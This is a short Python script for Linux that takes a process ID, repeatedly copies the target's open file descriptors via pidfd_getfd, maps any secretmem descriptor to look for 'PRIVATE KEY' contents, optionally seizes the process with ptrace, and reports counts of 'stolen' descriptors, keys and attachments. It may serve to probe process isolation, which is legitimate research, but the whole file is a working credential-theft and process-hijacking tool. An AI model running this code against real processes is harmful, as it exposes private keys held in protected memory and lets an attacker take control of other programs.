"""Takes from a process, until it is gone, what another of its user may: its descriptors, secret memory through them, and
with `attach` the process itself as a tracer. Says how often that went well."""

import ctypes
import mmap
import os
import sys

PIDFD_GETFD = 438
PTRACE_SEIZE = 0x4206
DESCRIPTORS = range(3, 40)

libc = ctypes.CDLL(None, use_errno=True)
pid = int(sys.argv[1])
process = os.pidfd_open(pid)
looks = descriptors = keys = attachments = 0


def alive():
    try:
        os.kill(pid, 0)
        return True
    except ProcessLookupError:
        return False


def holds_key(file):
    if "secretmem" not in os.readlink(f"/proc/self/fd/{file}"):
        return False
    with mmap.mmap(file, 0, mmap.MAP_SHARED, mmap.PROT_READ) as memory:
        return b"PRIVATE KEY" in memory[:]


print("looking", flush=True)
while alive():
    looks += 1
    for number in DESCRIPTORS:
        file = libc.syscall(PIDFD_GETFD, process, number, 0)
        if file >= 0:
            descriptors += 1
            keys += holds_key(file)
            os.close(file)
    if "attach" in sys.argv and libc.ptrace(PTRACE_SEIZE, pid, 0, 0) == 0:
        attachments += 1
        break
print(f"looked {looks} times", flush=True)
print(f"stolen: {descriptors} descriptors, {keys} keys, {attachments} attachments", flush=True)
